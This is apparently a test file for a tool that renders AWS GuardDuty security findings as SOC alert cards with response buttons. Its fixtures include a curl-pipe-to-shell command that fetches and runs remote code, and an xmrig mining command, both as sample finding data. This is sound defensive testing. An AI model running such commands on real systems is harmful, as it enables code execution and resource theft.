import { describe, expect, it } from 'vitest';
import { ActionId } from '../../blocks/action-ids.js';
import { buildAlertCard, buildCard, buildUpdateNote } from '../../blocks/alert-card.js';
import { parseButtonValue } from '../../blocks/button-value.js';
import { validateCard } from '../../blocks/limits.js';
import { auditCardSafety } from '../../blocks/safety.js';
import type { Signal } from '../../src/model/signal.js';
import {
  FINDING_ID,
  LONG_KEY,
  TEMP_KEY,
  actionIdsOf,
  buttonsOf,
  cardJson,
  contextTexts,
  duetDecision,
  fieldsOf,
  headerOf,
  makeDecision,
  makeHit,
  makeSignal,
  sectionTexts,
} from './factory.js';

const CONSOLE = `https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?macros=current&fId=${FINDING_ID}`;

interface ResourceCase {
  name: string;
  signal: Partial<Signal>;
  /** Lines that must appear among the section texts. */
  expect: string[];
}

const RESOURCE_CASES: ResourceCase[] = [
  {
    name: 'Instance with a port probe from seven remotes',
    signal: {
      type: 'Recon:EC2/PortProbeUnprotectedPort',
      resource: { type: 'Instance', id: 'i-0abc1234def567890', detail: 't3.micro · running', tags: { Name: 'web-1', env: 'prod' } },
      actor: undefined,
      api: undefined,
      action: 'PORT_PROBE',
      remotes: Array.from({ length: 7 }, (_, i) => ({ ip: `203.0.113.${i + 1}`, port: 22, protocol: 'TCP' })),
    },
    expect: [
      '*Resource*  EC2 instance `i-0abc1234def567890`\n`t3.micro · running`\nTags: `Name=web-1` `env=prod`',
      '*Remotes (7)*\n• `203.0.113.1` · port `22` `TCP`\n• `203.0.113.2` · port `22` `TCP`\n• `203.0.113.3` · port `22` `TCP`\n• `203.0.113.4` · port `22` `TCP`\n• `203.0.113.5` · port `22` `TCP`\n+2 more',
    ],
  },
  {
    name: 'AccessKey',
    signal: {},
    expect: [
      '*Resource*  IAM access key `AKIAIOSFODNN7EXAMPLE`\n`IAMUser alice`',
      '*Actor*\n*User*  `alice` · `IAMUser`\n*Access key*  `AKIAIOSFODNN7EXAMPLE` (long-term key)',
      '*Remote*\n• `198.51.100.7` · `Netherlands` `Amsterdam` · `AS64500` `Example Hosting`',
    ],
  },
  {
    name: 'S3Bucket',
    signal: { type: 'Discovery:S3/MaliciousIPCaller', resource: { type: 'S3Bucket', id: 'finance-reports', detail: 'SSE-KMS, public: no' } },
    expect: ['*Resource*  S3 bucket `finance-reports`\n`SSE-KMS, public: no`'],
  },
  {
    name: 'EKSCluster with a Kubernetes actor',
    signal: {
      type: 'Discovery:Kubernetes/TorIPCaller',
      resource: { type: 'EKSCluster', id: 'prod-eks', detail: 'Kubernetes 1.29' },
      actor: { type: 'Kubernetes', userName: 'system:anonymous', groups: ['system:unauthenticated'] },
    },
    expect: ['*Resource*  EKS cluster `prod-eks`\n`Kubernetes 1.29`', '*Actor*\n*User*  `system:anonymous` · `Kubernetes`\n*Groups*  `system:unauthenticated`'],
  },
  {
    name: 'ECSCluster with a runtime process',
    signal: {
      type: 'Execution:Runtime/NewBinaryExecuted',
      resource: { type: 'ECSCluster', id: 'arn:aws:ecs:eu-west-1:111122223333:cluster/prod', detail: 'task web:42' },
      process: { name: 'xmrig', executablePath: '/tmp/xmrig', commandLine: 'xmrig -o pool.example:3333', pid: 4242, user: 'root' },
    },
    expect: [
      '*Resource*  ECS cluster `arn:aws:ecs:eu-west-1:111122223333:cluster/prod`\n`task web:42`',
      '*Process*  `xmrig` · pid `4242` · user `root`\n*Path*  `/tmp/xmrig`\n*Command line*\n```\nxmrig -o pool.example:3333\n```',
    ],
  },
  {
    name: 'Container',
    signal: {
      resource: { type: 'Container', id: '6d2a1f0c9b8e', detail: 'nginx:1.25' },
      process: { name: 'sh', commandLine: "sh -c 'curl -s http://203.0.113.9/x | sh'" },
    },
    expect: ["*Process*  `sh`\n*Command line*\n```\nsh -c 'curl -s http://203.0.113.9/x | sh'\n```", '*Resource*  Container `6d2a1f0c9b8e`\n`nginx:1.25`'],
  },
  {
    name: 'RDSDBInstance',
    signal: {
      type: 'CredentialAccess:RDS/MaliciousIPCaller.FailedLogin',
      resource: { type: 'RDSDBInstance', id: 'orders-db', detail: 'aurora-postgresql 15.4' },
      actor: { userName: 'dbadmin' },
    },
    expect: ['*Resource*  RDS DB instance `orders-db`\n`aurora-postgresql 15.4`', '*Actor*\n*User*  `dbadmin`'],
  },
  {
    name: 'Lambda calling out to a domain',
    signal: {
      type: 'Backdoor:Lambda/C&CActivity.B',
      resource: { type: 'Lambda', id: 'arn:aws:lambda:eu-west-1:111122223333:function:resize', detail: 'python3.12' },
      actor: undefined,
      remotes: [{ domain: 'c2.example.net', port: 443, protocol: 'TCP' }],
    },
    expect: ['*Resource*  Lambda function `arn:aws:lambda:eu-west-1:111122223333:function:resize`\n`python3.12`', '*Remote*\n• `c2.example.net` · port `443` `TCP`'],
  },
  {
    name: 'AttackSequence',
    signal: {
      type: 'AttackSequence:S3/CompromisedData',
      resource: { type: 'AttackSequence', id: 'arn:aws:guardduty:eu-west-1:111122223333:detector/d1/finding/f1', detail: '4 signals' },
    },
    expect: ['*Resource*  Attack sequence `arn:aws:guardduty:eu-west-1:111122223333:detector/d1/finding/f1`\n`4 signals`'],
  },
  {
    name: 'Malware Protection for S3 finding',
    signal: { type: 'Object:S3/MaliciousFile', resource: { type: 'S3Object', id: 'uploads/invoice.pdf.exe', detail: 'EICAR-Test-File (not a virus)' } },
    expect: ['*Resource*  S3 object `uploads/invoice.pdf.exe`\n`EICAR-Test-File (not a virus)`'],
  },
  {
    name: 'malware S3 object scan result',
    signal: {
      source: 'malware-scan',
      type: 'GuardDuty Malware Protection Object Scan Result',
      title: 'Malware found in an uploaded S3 object',
      resource: { type: 'S3_OBJECT', id: 'amzn-s3-demo-bucket/upload.zip', detail: 'THREATS_FOUND: EICAR-Test-File' },
      actor: undefined,
      remotes: [],
    },
    expect: ['*Resource*  S3 object `amzn-s3-demo-bucket/upload.zip`\n`THREATS_FOUND: EICAR-Test-File`'],
  },
  {
    name: 'a resource type nobody has seen yet',
    signal: { type: 'Weird:Thing/New', resource: { type: 'QuantumWidget', id: 'qw-1' } },
    expect: ['*Resource*  `QuantumWidget` `qw-1`'],
  },
];

describe('buildAlertCard per resource type', () => {
  it.each(RESOURCE_CASES)('$name', ({ signal, expect: lines }) => {
    const card = buildAlertCard(makeSignal(signal), makeDecision());
    expect(validateCard(card)).toEqual([]);
    expect(auditCardSafety(card)).toEqual([]);
    const sections = sectionTexts(card);
    for (const line of lines) expect(sections).toContain(line);
  });
});

describe('buildAlertCard content', () => {
  const card = buildAlertCard(makeSignal(), makeDecision({ hits: [makeHit({ runbook: ['Ask alice', 'Rotate the key'] })] }), {
    tenantName: 'Acme',
    wrapper: 'eventbridge',
  });

  it('puts the severity marker and title in the header', () => {
    expect(headerOf(card)).toBe('🟠 API GetSecretValue was invoked from a known malicious IP address.');
  });

  it('lists the facts with the decided severity and the finding’s own', () => {
    expect(fieldsOf(card)).toEqual([
      '*Severity*\n🟠 High 8.0\n(finding said 5.0)',
      '*Account*\n`111122223333`',
      '*Region*\n`eu-west-1`',
      '*Finding type*\n`UnauthorizedAccess:IAMUser/MaliciousIPCaller`',
      '*Count*\n3',
      '*First seen*\n2026-03-01 10:00:00 UTC',
      '*Last seen*\n2026-03-01 12:30:05 UTC',
    ]);
  });

  it('shows the rule that fired and its runbook', () => {
    expect(sectionTexts(card)).toContain('*Rule that fired*\n• API call from a malicious IP `picket-gd-malicious-ip`');
    expect(sectionTexts(card)).toContain('*Runbook*\n1. Ask alice\n2. Rotate the key');
  });

  it('names source, wrapper, tenant and id in the context line', () => {
    expect(contextTexts(card)).toEqual([`Source: GuardDuty via \`eventbridge\` · tenant \`Acme\` · id \`${FINDING_ID}\``]);
  });

  it('has a plain fallback text', () => {
    expect(card.text).toBe(
      '🟠 High 8.0: API GetSecretValue was invoked from a known malicious IP address. · account 111122223333 · eu-west-1',
    );
  });
});

describe('SOC buttons', () => {
  it('offers acknowledge, investigate, deactivate for a long-term key, close and the console link', () => {
    const card = buildAlertCard(makeSignal(), makeDecision());
    expect(actionIdsOf(card)).toEqual([
      ActionId.acknowledge,
      ActionId.investigate,
      ActionId.deactivateKey,
      ActionId.close,
      ActionId.openConsole,
    ]);
    const link = buttonsOf(card).find((b) => b.action_id === ActionId.openConsole);
    expect(link?.url).toBe(CONSOLE);
  });

  it('asks for confirmation before deactivating and names the key', () => {
    const deactivate = buttonsOf(buildAlertCard(makeSignal(), makeDecision())).find((b) => b.action_id === ActionId.deactivateKey);
    expect(deactivate?.style).toBe('danger');
    expect(JSON.stringify(deactivate?.confirm)).toContain(`${LONG_KEY} stops working at once.`);
  });

  it.each([
    ['a temporary key', { actor: { type: 'AssumedRole', roleName: 'ci', sessionName: 'build-7', accessKeyId: TEMP_KEY } }],
    ['no actor', { actor: undefined }],
    ['a key-like string that is not a key', { actor: { accessKeyId: 'AKIA<@U0123>' } }],
  ])('leaves out deactivate for %s', (_name, over) => {
    const ids = actionIdsOf(buildAlertCard(makeSignal(over), makeDecision()));
    expect(ids).toEqual([ActionId.acknowledge, ActionId.investigate, ActionId.close, ActionId.openConsole]);
  });

  it('carries {findingId, ruleId} in every button value', () => {
    for (const b of buttonsOf(buildAlertCard(makeSignal(), makeDecision()))) {
      expect(parseButtonValue(String(b.value))).toEqual({ findingId: FINDING_ID, ruleId: 'picket-gd-malicious-ip' });
    }
  });

  it('drops the console link when asked to', () => {
    const ids = actionIdsOf(buildAlertCard(makeSignal(), makeDecision(), { consoleUrl: false }));
    expect(ids).not.toContain(ActionId.openConsole);
  });

  it('shows role and session for an assumed role', () => {
    const card = buildAlertCard(makeSignal({ actor: { type: 'AssumedRole', roleName: 'ci', sessionName: 'build-7', accessKeyId: TEMP_KEY } }), makeDecision());
    expect(sectionTexts(card)).toContain(
      `*Actor*\n*User*  \`AssumedRole\`\n*Role*  \`ci\` · session \`build-7\`\n*Access key*  \`${TEMP_KEY}\` (temporary key)`,
    );
  });
});

describe('sample findings', () => {
  const card = buildAlertCard(makeSignal({ sample: true }), makeDecision({ sample: true }));

  it('say SAMPLE in the header, the context and the fallback', () => {
    expect(headerOf(card)).toBe('🟠 SAMPLE · API GetSecretValue was invoked from a known malicious IP address.');
    expect(contextTexts(card)[0]).toBe('🧪 *SAMPLE* finding generated by AWS for testing: not real activity, no action needed');
    expect(card.text.startsWith('[SAMPLE] 🟠 High 8.0:')).toBe(true);
  });

  it('never mention anyone', () => {
    expect(cardJson(card)).not.toMatch(/<!|<@|@channel|@here/);
  });

  it('are marked even when only the decision knows', () => {
    expect(headerOf(buildAlertCard(makeSignal(), makeDecision({ sample: true })))).toMatch(/^🟠 SAMPLE · /);
  });
});

describe('port probes with many remotes', () => {
  it('show the first five and how many more', () => {
    const remotes = Array.from({ length: 500 }, (_, i) => ({ ip: `10.${i >> 8}.${i & 255}.1`, port: 3389 }));
    const card = buildAlertCard(makeSignal({ remotes }), makeDecision());
    const text = sectionTexts(card).find((s) => s.startsWith('*Remotes'));
    expect(text?.split('\n')).toEqual([
      '*Remotes (500)*',
      '• `10.0.0.1` · port `3389`',
      '• `10.0.1.1` · port `3389`',
      '• `10.0.2.1` · port `3389`',
      '• `10.0.3.1` · port `3389`',
      '• `10.0.4.1` · port `3389`',
      '+495 more',
    ]);
    expect(validateCard(card)).toEqual([]);
  });
});

describe('buildCard', () => {
  it('builds the DUET card for a duet outcome', () => {
    expect(actionIdsOf(buildCard(makeSignal(), duetDecision()))).toEqual([ActionId.duetYes, ActionId.duetNo, ActionId.openConsole]);
  });

  it('builds the SOC card for an alert', () => {
    expect(actionIdsOf(buildCard(makeSignal(), makeDecision()))[0]).toBe(ActionId.acknowledge);
  });

  it('explains a suppressed outcome in the context line', () => {
    const card = buildCard(makeSignal(), makeDecision({ outcome: 'suppressed', reason: 'known scanner <@U1>' }));
    expect(contextTexts(card)).toContain('Outcome: suppressed (known scanner &lt;@U1&gt;)');
  });
});

describe('buildUpdateNote', () => {
  it('reports the new count and last sighting', () => {
    const note = buildUpdateNote({ count: 3, lastSeen: '2026-03-01T12:30:05.000Z' }, makeSignal({ count: 1207, lastSeen: '2026-03-02T08:00:00Z' }));
    expect(note).toBe('🔁 Seen again: count 3 → 1,207 · last seen 2026-03-02 08:00:00 UTC');
  });

  it('stays short and placeholder-free when fields are missing', () => {
    const note = buildUpdateNote({ count: Number.NaN }, makeSignal({ count: Number.NaN, lastSeen: undefined }));
    expect(note).toBe('🔁 Seen again');
  });

  it('escapes an odd timestamp', () => {
    const note = buildUpdateNote({ count: 2 }, makeSignal({ count: 2, lastSeen: '<!here> soon' }));
    expect(note).toBe('🔁 Seen again: count 2 · last seen `&lt;!here&gt; soon`');
  });
});

describe('the API result on a card', () => {
  it('shows a failed call, so a denied attempt reads as an attempt', async () => {
    const { makeSignal, makeDecision } = await import('./factory.js');
    const { buildAlertCard } = await import('../../blocks/alert-card.js');
    const card = buildAlertCard(makeSignal({ source: 'cloudtrail', type: 'cloudtrail.amazonaws.com:StopLogging', errorCode: 'AccessDenied' }), makeDecision());
    const text = JSON.stringify(card.blocks);
    expect(text).toContain('*API result*\\n`AccessDenied`, the call failed');
    expect(text).toContain('*Event*\\n`cloudtrail.amazonaws.com:StopLogging`');
  });
});
